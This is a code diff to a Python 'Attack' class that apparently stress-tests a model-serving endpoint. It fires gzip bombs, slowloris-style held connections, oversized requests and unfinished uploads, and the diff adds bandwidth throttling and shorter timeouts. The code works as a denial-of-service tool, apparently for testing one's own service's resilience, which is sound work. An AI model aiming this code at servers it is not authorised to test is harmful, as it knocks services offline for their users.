@@ -39,6 +39,7 @@ class Attack:
         images = {name: json.dumps({"instances": [b64(make())]}).encode() for name, make in KINDS.items()}
         self._images = itertools.cycle(images.values())
         self._filler = b"[" * 100 * MB
+        self._line = threading.Lock()
         self._bomb = gzip.compress(bytes(1 << 30), 9)
 
     def run(self) -> None:
@@ -70,7 +71,7 @@ class Attack:
             connection.close()
 
     def _oversized(self) -> str:
-        return self._post("oversized", self._filler)
+        return self._unfinished(100 * MB)
 
     def _gzip_bomb(self) -> str:
         return self._post("gzip bomb", self._bomb, **{"Content-Encoding": "gzip"})
@@ -80,7 +81,7 @@ class Attack:
 
     def _hold(self, head: bytes) -> str:
         """A connection that says nothing more, or one byte a second."""
-        with socket.create_connection((self._host, self._port), 60) as connection:
+        with socket.create_connection((self._host, self._port), 5) as connection:
             connection.sendall(head)
             connection.settimeout(1)
             while time.monotonic() < self._end:
@@ -91,12 +92,19 @@ class Attack:
                         connection.sendall(b"a")
         return "slow head: open at the end"
 
+    def _send(self, connection: socket.socket, size: int) -> None:
+        """Filler, over a line of about a gigabit a second that all attackers share."""
+        for start in range(0, size, MB):
+            with self._line:
+                connection.sendall(memoryview(self._filler)[:min(MB, size - start)])
+                time.sleep(0.008)
+
     def _unfinished(self, size: int) -> str:
-        """An upload that stops after nine tenths."""
-        with socket.create_connection((self._host, self._port), 60) as connection:
+        """An upload that stops after nine tenths; of 100 MB is more than the server takes."""
+        with socket.create_connection((self._host, self._port), 5) as connection:
             connection.sendall(f"POST /v1/models/tagger:predict HTTP/1.1\r\nHost: {self._host}\r\n"
                                f"Content-Length: {size}\r\n\r\n".encode())
-            connection.sendall(memoryview(self._filler)[:size * 9 // 10])
+            self._send(connection, size * 9 // 10)
             connection.settimeout(max(self._end - time.monotonic(), 1))
             status = connection.recv(100).split(b" ")[1:2]
             return f"unfinished {size // MB} MB: {status[0].decode() if status else 'closed'}"
